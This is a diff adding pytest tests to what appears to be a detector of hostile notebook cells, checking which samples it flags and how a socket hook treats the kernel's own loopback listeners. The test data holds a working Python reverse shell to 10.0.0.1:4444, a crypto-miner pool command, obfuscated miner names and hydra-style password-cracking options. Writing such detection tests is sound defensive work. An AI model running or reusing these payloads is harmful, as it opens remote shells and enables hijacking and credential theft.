@@ -331,3 +331,57 @@ async def test_a_load_test_of_ones_own_api_started_in_a_terminal_runs(kernel, gu
     finally:
         api.kill()
         api.wait()
+
+
+# ---------------------------------------------------------------- the fixes, and what they keep
+
+
+def _cell_ids(cell: str) -> set[str]:
+    from tests.test_cell_evasions import run_cells
+    return {d.signature.id for d in run_cells([cell])}
+
+
+@pytest.mark.parametrize("cell, caught", [
+    # a family's folder named in a plain list is no hidden name; a name assembled still is
+    (NAMED_CELLS[0], set()),
+    ("d = '/tmp/.cache'\nexe = f'{d}/xm' + 'rig'\nprint(exe)", {"cell-hidden-miner-name"}),
+    ("import os\nbase = 'data'\nos.makedirs(os.path.join(base, 'x' + 'mrig'))", {"cell-hidden-miner-name"}),
+    # a shell given its script as input= runs that script: pipes, not a socket, are its streams
+    (NAMED_CELLS[3], set()),
+    ("import subprocess\nsubprocess.run(['bash'], input='./x -o stratum+tcp://pool.example.net:3333')",
+     {"cell-pool-url"}),
+    ("import socket, subprocess, os\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\n"
+     "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])",
+     {"cell-reverse-shell"}),
+    # aria2c's -P takes no value (a URL follows it); a password or list after -P is still hydra's
+    ("!aria2c -q -d got -l aria.log -P 'ftp://127.0.0.1:2121/pub/{a,b}.csv'", set()),
+    ("!./fetch -l admin -P pass.txt ftp://127.0.0.1:2121", {"cracking-hydra-options"}),
+    ("!./fetch -l admin -p 's3:cret' ssh://127.0.0.1", {"cracking-hydra-options"}),
+])
+def test_cell_checks_near_the_fixes(cell, caught):
+    assert _cell_ids(cell) & (caught | {"cell-hidden-miner-name", "cell-reverse-shell",
+                                        "cracking-hydra-options", "cell-pool-url"}) == caught
+
+
+def test_the_hook_leaves_out_only_connects_to_the_kernels_own_listeners():
+    """A connect to a loopback port a socket of the kernel listens on is no attempt on anyone
+    else's port; one to a port it only bound (a client's source port), to another host, or
+    after its server closed is reported as before (a scan of loopback is still seen)."""
+    import socket
+    import weakref
+
+    from colab_guard.kernel.hook import _own_listener, _remember
+    listeners = weakref.WeakSet()
+    server, client = socket.socket(), socket.socket()
+    for sock in (server, client):
+        _remember(listeners, sock)
+        sock.bind(("127.0.0.1", 0))
+    server.listen()
+    port, source = server.getsockname()[1], client.getsockname()[1]
+    assert _own_listener(listeners, ("127.0.0.1", port))
+    assert not _own_listener(listeners, ("127.0.0.1", source))  # bound, not listening
+    assert not _own_listener(listeners, ("10.0.0.9", port))
+    assert not _own_listener(listeners, "/tmp/unix.sock")
+    server.close()
+    client.close()
+    assert not _own_listener(listeners, ("127.0.0.1", port))
